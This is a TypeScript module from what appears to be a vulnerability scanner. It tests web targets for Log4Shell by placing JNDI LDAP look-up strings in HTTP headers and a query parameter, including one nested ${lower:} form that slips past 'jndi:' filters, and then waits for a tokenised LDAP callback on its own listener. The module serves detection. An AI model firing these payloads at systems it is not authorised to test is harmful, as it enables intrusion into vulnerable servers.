import { randomBytes } from 'node:crypto';
import { setMaxListeners } from 'node:events';
import { isIPv6 } from 'node:net';
import { setTimeout as elapsed } from 'node:timers/promises';
import type { Probe } from '../check.ts';
import { hostHeader } from '../http-get.ts';
import { listenForSearches, type Search } from '../ldap-listener.ts';
import type { ProbeLimits } from '../limits.ts';
import type { ProbeAnswer, ProbeTarget } from '../model.ts';
import { canCallBack } from '../own-network.ts';
import { Unclear } from '../unclear.ts';
import { visible } from '../visible.ts';
import { dial } from '../wire.ts';

/** What applications log most often, each sent with a look-up of its own, so that the answer tells which one it was. */
const HEADERS = ['User-Agent', 'X-Api-Version', 'Referer', 'X-Forwarded-For', 'Authorization'] as const;

const HUNG_UP = 'closed unanswered';
/** On an unknown port: a web server says something, if only that it does not understand. */
const NO_WEB: ProbeAnswer = { kind: 'clean', evidence: '> web requests\n< closed unanswered: no web server' };

interface Injection {
  readonly token: string;
  /** The request's line that carries it. */
  readonly line: string;
  readonly request: string;
}

/**
 * Sends look-ups that a vulnerable Log4j resolves, each with a token of its own. The target is vulnerable if a token comes
 * back in an LDAP search: a connection alone may come from anywhere. The answer to the search is empty and runs nothing.
 */
export const checkLog4shell: Probe = async (given, limits, outer) => {
  const over = new AbortController();
  const signal = AbortSignal.any([outer, over.signal]);
  // Every request listens for the end of the time.
  setMaxListeners(0, signal);
  const address = await ownAddress(given, limits, signal);
  const request = { ...given, tls: given.tls ?? (await speaksTls(given, limits, signal)) };
  const sent = new Map<string, Injection>();
  const hit = Promise.withResolvers<{ injection: Injection; search: Search }>();
  const listener = await listenForSearches(address, (search) => {
    const injection = sent.get(search.base.toLowerCase());
    if (injection) hit.resolve({ injection, search });
  });
  try {
    const injections = injectionsFor(request, `${bracketed(address)}:${listener.port}`);
    for (const injection of injections) sent.set(injection.token, injection);
    const answers = Promise.all(injections.map((injection) => send(injection, request, limits, signal)));
    const silence = answers.then(() => elapsed(limits.callbackMs, null, { signal }).catch(() => null));
    const found = await Promise.race([hit.promise, silence]);
    if (!found) {
      const heard = await answers;
      if (given.tls === null && heard.every((answer) => answer?.message === HUNG_UP)) return NO_WEB;
      return whenNobodyCame(heard, listener.connections(), canCallBack(request.ip, address));
    }
    const callback = `< LDAP search for ${found.injection.token} from ${found.search.from}`;
    return { kind: 'found', evidence: visible(`> ${found.injection.line}\n${callback}`), variant: null };
  } finally {
    over.abort();
    listener.close();
  }
};

/** A service that completes a handshake speaks TLS. */
async function speaksTls(request: ProbeTarget, limits: ProbeLimits, signal: AbortSignal): Promise<boolean> {
  const wire = await dial({ ...request, tls: true }, limits, signal).catch(() => null);
  wire?.close();
  return wire !== null;
}

/** The address this machine has towards the target: inside a tunnel it is the tunnel's. */
async function ownAddress(request: ProbeTarget, limits: ProbeLimits, signal: AbortSignal): Promise<string> {
  const wire = await dial({ ...request, tls: false }, limits, signal);
  const address = wire.localAddress;
  wire.close();
  if (!address) throw new Unclear('tool_failed', 'closed before our own address was known');
  return address;
}

function bracketed(address: string): string {
  return isIPv6(address) ? `[${address.replace(/%.*/, '')}]` : address;
}

function injectionsFor(request: ProbeTarget, authority: string): Injection[] {
  const plain = (token: string) => `\${jndi:ldap://${authority}/${token}}`;
  // Some filters drop what reads `jndi:`; Log4j resolves the inner look-ups first.
  const disguised = (token: string) => `\${\${lower:j}ndi:\${lower:l}dap://${authority}/${token}}`;
  const header = (name: string, lookUp: (token: string) => string) =>
    injection(request, (token) => ({ path: '/', line: `${name}: ${lookUp(token)}` }));
  return [
    ...HEADERS.map((name) => header(name, name === 'Authorization' ? (token) => `Bearer ${plain(token)}` : plain)),
    header('User-Agent', disguised),
    injection(request, (token) => ({ path: `/?q=${encodeURIComponent(plain(token))}`, line: null })),
  ];
}

function injection(
  request: ProbeTarget,
  build: (token: string) => { readonly path: string; readonly line: string | null },
): Injection {
  const token = randomBytes(12).toString('hex');
  const { path, line } = build(token);
  const first = `GET ${path} HTTP/1.1`;
  const agent = line?.startsWith('User-Agent:') ? [] : ['User-Agent: Mozilla/5.0'];
  const head = [`Host: ${hostHeader(request)}`, ...agent, ...(line ? [line] : []), 'Accept: */*', 'Connection: close'];
  return { token, line: line ?? first, request: `${[first, ...head].join('\r\n')}\r\n\r\n` };
}

/** Null: the target said something to it. */
async function send(
  { request: text }: Injection,
  request: ProbeTarget,
  limits: ProbeLimits,
  signal: AbortSignal,
): Promise<Unclear | null> {
  try {
    const wire = await dial(request, limits, signal);
    wire.send(text);
    const { data, end } = await wire.read((heard) => heard.length > 0);
    wire.close();
    if (data.length > 0) return null;
    return end === 'timed_out' ? new Unclear('timed_out', 'no answer') : new Unclear('tool_failed', HUNG_UP);
  } catch (error) {
    return error instanceof Unclear ? error : new Unclear('tool_failed', String(error));
  }
}

function whenNobodyCame(answers: ReadonlyArray<Unclear | null>, connections: number, reachable: boolean): ProbeAnswer {
  const answered = answers.filter((answer) => answer === null).length;
  if (answered === 0) throw answers[0] ?? new Unclear('tool_failed', 'nothing was sent');
  if (!reachable) throw new Unclear('filtered', 'the target cannot reach us: our own address is private');
  if (connections > 0) throw new Unclear('tool_failed', 'something connected to us without asking for a token');
  return {
    kind: 'clean',
    evidence: `> ${answers.length} requests with a JNDI look-up, ${answered} answered\n< no call`,
  };
}
